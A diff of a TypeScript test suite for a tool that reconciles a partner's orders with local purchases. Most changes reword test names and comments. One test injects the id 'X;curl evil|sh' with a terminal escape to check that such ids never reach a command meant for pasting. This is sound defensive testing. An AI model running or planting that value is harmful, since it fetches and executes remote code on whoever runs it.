@@ -16,27 +16,27 @@ import {
 import { totalsOf } from '../../../../src/report/report';
 import { hoursAgo, inBrief, NIGHT, order, plant, PLANTS, purchase, WELL } from './generated-records';
 
-/** Its debit went with its memo; what was delivered since is known. */
+/** It has no closing memo and therefore no debit, but later deliveries are known. */
 const TERMINATED = { execution: 'TERMINATED', state: 'PENDING', totalDebit: undefined };
 
-/** A purchase whose order is unknown here and found there. */
+/** A purchase that does not know its order, although the partner has one. */
 const { purchases: HELD } = plant([PLANTS['held here, found there']!], 1);
 
 const compare = (orders: readonly PartnerOrder[], purchases: readonly KnownPurchase[]) =>
   reconcile(indexRecords(byId(orders), purchases), NIGHT);
 
-describe('comparing the orders of the partner with the purchases here', () => {
-  it.each(Object.entries(PLANTS))('finds %s, once and as nothing else', (_, situation) => {
+describe("comparing the partner's orders with our purchases", () => {
+  it.each(Object.entries(PLANTS))('reports %s exactly once and as nothing else', (_, situation) => {
     const { orders, purchases, expected } = plant([situation], 1);
     expect(compare(orders, purchases).map(inBrief)).toEqual(expected);
   });
 
-  it.each(Object.entries(WELL))('finds nothing wrong with: %s', (_, situation) => {
+  it.each(Object.entries(WELL))('reports nothing for: %s', (_, situation) => {
     const { orders, purchases } = plant([situation], 1);
     expect(compare(orders, purchases)).toEqual([]);
   });
 
-  it('finds what is planted in 100,000 orders and purchases, every kind, and nothing else', () => {
+  it('finds every planted kind among 100,000 orders and purchases, and nothing else', () => {
     const mostlyWell = Array.from({ length: 20 }, () => Object.values(WELL)).flat();
     const { orders, purchases, expected } = plant([...Object.values(PLANTS), ...mostlyWell], 100_000);
     const found = compare(orders, purchases);
@@ -51,14 +51,14 @@ describe('comparing the orders of the partner with the purchases here', () => {
     ['no order with a reference', many((i) => order(i, { referenceId: undefined })), many((i) => purchase(i))],
     ['all purchases naming one order', [order('0')], many((i) => purchase(i, { orderId: 'ord-0' }))],
     ['one key in all purchases', many((i) => order(i)), many((i) => purchase(i, { keyIds: { p: ['k.same', i] } }))],
-  ])('takes seconds for 100,000 records, and not the hours of their square: %s', (_, orders, purchases) => {
+  ])('takes seconds for 100,000 records, not hours of quadratic time: %s', (_, orders, purchases) => {
     const begun = performance.now();
     totalsOf(indexRecords(byId(orders), purchases), { dayOf: () => '2026-01-01', hourOf: () => 0 });
     compare(orders, purchases);
     expect(performance.now() - begun).toBeLessThan(20_000);
   });
 
-  it('gives the same list whatever order the records are in, the most urgent kinds first', () => {
+  it('returns the same list for records in any order, the most urgent kinds first', () => {
     const { orders, purchases } = plant([...Object.values(PLANTS), ...Object.values(WELL)], 200);
     const found = compare(orders, purchases);
     const ranks = found.map((finding) => FINDING_KINDS.indexOf(finding.kind));
@@ -71,7 +71,7 @@ describe('comparing the orders of the partner with the purchases here', () => {
     );
   });
 
-  it('reports an order that can not be read once and under its purchase, and not as missing; rows that name none one by one', () => {
+  it('reports an unreadable order once, under its purchase and not as missing, and each row without an id separately', () => {
     const row = { what: 'row' as const, id: 'ord-a', referenceId: undefined, why: 'expected status: string' };
     const nameless = { ...row, id: undefined };
     const records = indexRecords(byId([]), [purchase('a')], [row, { ...row, what: 'order' }, nameless, nameless]);
@@ -79,7 +79,7 @@ describe('comparing the orders of the partner with the purchases here', () => {
     expect(found.map(inBrief).toSorted()).toEqual(['UNREADABLE REF-a ord-a', 'UNREADABLE none', 'UNREADABLE none']);
   });
 
-  it('names a finding of thousands of orders in a few hundred bytes, and another one as soon as there is one more', () => {
+  it('keeps the finding key of thousands of orders below 300 bytes, and changes it when one order is added', () => {
     const orders = Array.from({ length: 5_000 }, (_, i) => order(`d${i}`, { referenceId: 'REF-x' }));
     const keyOf = (some: PartnerOrder[]) => compare([order('x'), ...some], [purchase('x')]).map(findingKey)[0]!;
     expect(keyOf(orders).length).toBeLessThan(300);
@@ -87,13 +87,13 @@ describe('comparing the orders of the partner with the purchases here', () => {
     expect(keyOf(orders)).toBe(keyOf(orders.toReversed()));
   });
 
-  it('never groups orders without a reference: each is an orphan by itself', () => {
+  it('reports each order without a reference as its own orphan and never groups them', () => {
     const nameless = [undefined, undefined, ''].map((referenceId, i) => order(`n${i}`, { referenceId }));
     const orphans = ['n0', 'n1', 'n2'].map((name) => `ORPHAN none ord-${name}`);
     expect(compare(nameless, []).map(inBrief)).toEqual(orphans);
   });
 
-  it('counts all but the oldest order of a held purchase as doubles, and proposes to adopt the oldest', () => {
+  it('counts every order of a held purchase except the oldest as a double, and proposes to adopt the oldest', () => {
     const second = order('second', { referenceId: 'REF-0', createdAt: hoursAgo(20) });
     const first = order('first', { referenceId: 'REF-0', createdAt: hoursAgo(25) });
     const found = compare([second, first], HELD);
@@ -102,7 +102,7 @@ describe('comparing the orders of the partner with the purchases here', () => {
     expect(found[0]?.amounts).toEqual({ history: 12.34, surplus: 12.34 });
   });
 
-  it('reports a double order of a purchase that is held with an order of its own, and of none that goes on by itself', () => {
+  it('reports a double order of a purchase that is held with its own order, but not of one that is still running', () => {
     const two = [order('x'), order('y', { referenceId: 'REF-x' })];
     const kindsOf = (state: string) =>
       compare(two, [purchase('x', { execution: 'RUNNING', state, startedAt: hoursAgo(2) })]).map(({ kind }) => kind);
@@ -115,7 +115,7 @@ describe('comparing the orders of the partner with the purchases here', () => {
     expect(compare([named], [...HELD, purchase('x')])).toEqual([expect.objectContaining({ kind: 'STUCK' })]);
   });
 
-  it('treats references named like object properties as any other, and shows no status that could hold a key', () => {
+  it('accepts references that are named like object properties, and never shows a status that could contain a key', () => {
     const names = ['__proto__', 'constructor', 'toString'];
     const odd = names.map((referenceId) => order(referenceId, { referenceId, status: '1234-KEY-5678' }));
     const found = compare(odd, []);
@@ -123,7 +123,7 @@ describe('comparing the orders of the partner with the purchases here', () => {
     expect(JSON.stringify(found)).not.toContain('KEY-5678');
   });
 
-  it('compares money in decimals: a floating-point rounding error is no difference, a tenth of a cent is one', () => {
+  it('compares money in decimals: a tenth of a cent is a difference, a floating-point error is not', () => {
     const amounts = (amount: number, totalDebit: number) =>
       compare([order('m', { amount })], [purchase('m', { totalDebit })]).map((finding) => finding.kind);
     expect(amounts(0.1 + 0.2, 0.3)).toEqual([]);
@@ -132,13 +132,18 @@ describe('comparing the orders of the partner with the purchases here', () => {
   });
 
   it.each([
-    ['a row with the price of one piece of two', { amount: 6.17 }, 'DELIVERED', []],
-    ['the same, read by itself', { amount: 6.17, totalDebit: 12.34 }, 'DELIVERED', []],
+    ['a row with the price of one of the two pieces', { amount: 6.17 }, 'DELIVERED', []],
+    ['the same row, and the debit of the order itself', { amount: 6.17, totalDebit: 12.34 }, 'DELIVERED', []],
     ['a row with another amount', { amount: 6.18, totalDebit: 12.34 }, 'DELIVERED', ['AMOUNT_MISMATCH']],
-    ['another debit by now', { amount: 6.17, totalDebit: 12.35 }, 'DELIVERED', ['AMOUNT_MISMATCH']],
-    ['another debit, and a row for a part', { quantity: 1, totalDebit: 12.35 }, 'DELIVERED', ['AMOUNT_MISMATCH']],
+    ['a debit that has changed since', { amount: 6.17, totalDebit: 12.35 }, 'DELIVERED', ['AMOUNT_MISMATCH']],
+    [
+      'a debit that has changed since, and a row for one piece',
+      { quantity: 1, totalDebit: 12.35 },
+      'DELIVERED',
+      ['AMOUNT_MISMATCH'],
+    ],
     ['a debit for an order that failed', { status: 'FAILED' }, 'FAILED', ['AMOUNT_MISMATCH']],
-    ['the same, given back since', { status: 'FAILED', totalDebit: 0 }, 'FAILED', []],
+    ['a debit for an order that failed, since returned', { status: 'FAILED', totalDebit: 0 }, 'FAILED', []],
   ])('compares the debit of a purchase of two pieces with %s', (_, shown, state, expected) => {
     const ended = state === 'FAILED' ? { state, delivered: 0, keyIds: {} } : {};
     expect(compare([order('m', shown)], [purchase('m', ended)]).map(({ kind }) => kind)).toEqual(expected);
@@ -149,17 +154,20 @@ describe('comparing the orders of the partner with the purchases here', () => {
     ['another amount', {}, 10, 'SHORTFALL deliver-or-notify', 'its debit has gone down from 12.34 to 10.'],
     ['nothing', {}, 12.34, 'SHORTFALL deliver', 'its order at the partner is PARTIAL_COMPLETED.'],
     ['less than a millionth', { totalDebit: 0.1 + 0.2 }, 0.3, 'SHORTFALL deliver', 'is PARTIAL_COMPLETED.'],
-    ['who knows what: it was terminated', TERMINATED, 6.17, 'SHORTFALL deliver', 'is PARTIAL_COMPLETED.'],
-  ])('says of a part for 12.34 of which %s was refunded what can be told', (_, known, totalDebit, expected, words) => {
-    const part = { state: 'PARTIALLY_DELIVERED', delivered: 1, ...known };
-    const shown = { status: 'PARTIAL_COMPLETED', amount: undefined, quantity: 1, totalDebit };
-    const [finding] = compare([order('p', shown)], [purchase('p', part)]);
-    expect(`${finding?.kind} ${finding?.repair}`).toBe(expected);
-    expect(finding?.explanation).toContain(words);
-    expect(finding?.amounts).toEqual({ debited: purchase('p', part).totalDebit, debitedNow: totalDebit });
-  });
+    ['an unknown amount (terminated)', TERMINATED, 6.17, 'SHORTFALL deliver', 'is PARTIAL_COMPLETED.'],
+  ])(
+    'explains a part for 12.34 of which %s was refunded, claiming no more than is known',
+    (_, known, totalDebit, expected, words) => {
+      const part = { state: 'PARTIALLY_DELIVERED', delivered: 1, ...known };
+      const shown = { status: 'PARTIAL_COMPLETED', amount: undefined, quantity: 1, totalDebit };
+      const [finding] = compare([order('p', shown)], [purchase('p', part)]);
+      expect(`${finding?.kind} ${finding?.repair}`).toBe(expected);
+      expect(finding?.explanation).toContain(words);
+      expect(finding?.amounts).toEqual({ debited: purchase('p', part).totalDebit, debitedNow: totalDebit });
+    },
+  );
 
-  it('calls a part fewer keys than ordered, and not paid for, also if the partner debited just the keys that it delivered', () => {
+  it('reports a part as "fewer keys than ordered" even if the partner debited only the delivered keys', () => {
     const part = { state: 'PARTIALLY_DELIVERED', delivered: 1, totalDebit: 6.17 };
     const shown = { status: 'PARTIAL_COMPLETED', amount: undefined, quantity: 1, totalDebit: 6.17 };
     const [finding] = compare([order('p', shown)], [purchase('p', part)]);
@@ -167,7 +175,7 @@ describe('comparing the orders of the partner with the purchases here', () => {
     expect(KIND_DOCS.SHORTFALL.title).toBe('Fewer keys than ordered');
   });
 
-  it('makes one finding of purchases that share keys, however many keys and purchases those are', () => {
+  it('reports any number of purchases that share keys as one finding', () => {
     const names = Array.from({ length: 50 }, (_, i) => String(i).padStart(2, '0'));
     const keys = { 'card-50': ['k.same-1', 'k.same-2'] };
     const purchases = names.map((name) => purchase(name, { keyIds: keys }));
@@ -177,12 +185,12 @@ describe('comparing the orders of the partner with the purchases here', () => {
     expect(compare(orders, purchases)).toEqual([expect.objectContaining(finding)]);
   });
 
-  it('does not report the keys of the two runs of a reset as the same keys in two purchases', () => {
+  it('does not report the two runs of a reset as two purchases with the same keys', () => {
     const runs = [purchase('t'), purchase('t', { runId: 'later', startedAt: hoursAgo(29) })];
     expect(compare([order('t')], runs)).toEqual([]);
   });
 
-  it('names the reference and the order in its advice, also when either contains the word REFERENCE or ORDER', () => {
+  it('names the reference and the order in its advice, even if they contain the words REFERENCE or ORDER', () => {
     const referenceId = 'ORDER-1001-REFERENCE';
     const order1 = order('x', { id: 'REFERENCE-ORDER-1', referenceId, status: 'FAILED' });
     const held = { ...HELD[0]!, referenceId };
@@ -196,7 +204,7 @@ describe('comparing the orders of the partner with the purchases here', () => {
     expect(adviceOn(delivered)).toEqual([expect.stringContaining(compared)]);
   });
 
-  it('puts no id into a command to paste that no command takes', () => {
+  it('never puts an id that is not a valid argument into a command to paste', () => {
     const id = 'X;curl evil|sh \u001B[2J\n';
     const held = { ...HELD[0]!, referenceId: 'REF-x' };
     const delivered = purchase('x', { referenceId: 'REF-x', orderId: id });
@@ -206,7 +214,7 @@ describe('comparing the orders of the partner with the purchases here', () => {
     }
   });
 
-  it('says what is wrong and what to do in plain sentences, whatever was found', () => {
+  it('explains every kind of finding, and what to do about it, in plain sentences', () => {
     const { orders, purchases } = plant(Object.values(PLANTS), 100);
     for (const finding of compare(orders, purchases)) {
       expect(finding.explanation).toMatch(/^[A-Z0-9].+\.$/);
@@ -227,18 +235,18 @@ describe('a second reading', () => {
     compare([order('x', { status })], [purchase('x', { state: 'OVERDUE', delivered: 0 })]);
   const double = compare([order('x'), order('y', { referenceId: 'REF-x' })], [purchase('x')]);
 
-  it('gives what a purchase and its own order are together by now, where that is of another kind', () => {
+  it('replaces the finding about a purchase and its own order if its kind has changed', () => {
     expect(confirmationOf(own('PROCESSING')[0]!, own('COMPLETED'))).toMatchObject({ kind: 'LATE' });
     expect(confirmationOf(own('PROCESSING')[0]!, [])).toBeUndefined();
   });
 
-  it('gives nothing in place of a double purchase, whose own order has a finding of its own', () => {
+  it("never replaces a double purchase by a finding about the purchase's own order, or the reverse", () => {
     expect(confirmationOf(double[0]!, own('COMPLETED'))).toBeUndefined();
     expect(confirmationOf(own('PROCESSING')[0]!, double)).toBeUndefined();
     expect(confirmationOf(double[0]!, [...own('COMPLETED'), ...double])).toMatchObject({ kind: 'DOUBLE_PURCHASE' });
   });
 
-  /** A status in place of COMPLETED by the name of the order; an empty one is of an order that is not shown. */
+  /** Three orders, COMPLETED unless `statuses` says otherwise. An empty status leaves the order out. */
   const ordersOf = (statuses: Record<string, string>) =>
     ['a', 'b', 'c'].flatMap((name, at) => {
       const { [name]: status = 'COMPLETED' } = statuses;
@@ -247,11 +255,11 @@ describe('a second reading', () => {
 
   it.each<[string, Partial<KnownPurchase>, Record<string, string>, Record<string, string>, string]>([
     ['a further order is refunded', {}, {}, { c: 'REFUNDED' }, 'a b'],
-    ['a further order is none any more', {}, { c: 'REFUNDED' }, {}, 'a b c'],
-    ['the oldest of a purchase that names none failed', UNKNOWN, {}, { a: 'FAILED' }, 'b c'],
-    ['the own order is there after all', {}, { a: '', c: '' }, { c: '' }, 'a b'],
+    ['a further order is no longer refunded', {}, { c: 'REFUNDED' }, {}, 'a b c'],
+    ['the oldest order failed, and the purchase knows no order', UNKNOWN, {}, { a: 'FAILED' }, 'b c'],
+    ["the purchase's own order has appeared", {}, { a: '', c: '' }, { c: '' }, 'a b'],
     ['no further order is billable', {}, {}, { b: 'REFUNDED', c: 'FAILED' }, ''],
-  ])('of a double purchase, or of an order that was missing, gives the double purchase of now: %s', (...row) => {
+  ])('updates the orders of a double purchase, or turns a missing order into one: %s', (...row) => {
     const [, known, before, now, expected] = row;
     const about = ['DOUBLE_PURCHASE', 'MISSING_AT_PARTNER'];
     const suggested = compare(ordersOf(before), [purchase('a', known)]).find(({ kind }) => about.includes(kind));
@@ -262,11 +270,11 @@ describe('a second reading', () => {
 });
 
 describe('a repair', () => {
-  it('leaves nothing to deliver or to adopt: the next night finds only what a person must see, under the same keys', () => {
+  it('leaves nothing to deliver or adopt; the next night reports only findings for a person, under the same keys', () => {
     const { orders, purchases } = plant([...Object.values(PLANTS), ...Object.values(WELL)], 2_000);
     const first = compare(orders, purchases);
     const again = compare(orders, repaired(orders, purchases, first));
-    // An order that is still a part may grow: it is read every night.
+    // A partial order may still grow, so it is read every night.
     const parts = new Set(orders.filter(({ status }) => status === 'PARTIAL_COMPLETED').map(({ id }) => id));
     const second = again.filter(({ orderIds: [id] }) => !parts.has(id!));
     expect(second.filter(({ repair }) => repair?.startsWith('deliver') || repair === 'adopt')).toEqual([]);
@@ -278,14 +286,14 @@ describe('a repair', () => {
     expect(ofPeople.length).toBeGreaterThan(100);
   });
 
-  it('is not proposed for a shortfall whose order turns out to hold no new key: it is to be claimed from the partner', () => {
+  it('is not proposed for a shortfall whose order has no new key, because the partner has to supply it', () => {
     const { orders, purchases } = plant([PLANTS['PARTIALLY_DELIVERED here, COMPLETED there']!], 1);
     const [filled] = compare(orders, purchases);
     expect(withKeysMissing(filled!)).toMatchObject({ kind: 'SHORTFALL', orderIds: ['ord-0'] });
     expect(withKeysMissing(filled!).repair).toBeUndefined();
   });
 
-  it('has a finding with the same key in every run, and another key for every cause: all of an order may be refunded after a part', () => {
+  it('has a finding key that is stable across runs but differs for each cause, such as a full refund after a partial one', () => {
     const { orders, purchases } = plant(Object.values(PLANTS), 100);
     const keys = compare(orders, purchases).map(findingKey);
     expect(new Set(keys).size).toBe(keys.length);
@@ -299,7 +307,6 @@ describe('a repair', () => {
 
 const DELIVERED = { state: 'DELIVERED', execution: 'COMPLETED', closedAt: hoursAgo(1), ordered: 2, delivered: 2 };
 
-/** The purchases after the repairs of a reconciliation. */
 function repaired(
   orders: readonly PartnerOrder[],
   purchases: readonly KnownPurchase[],
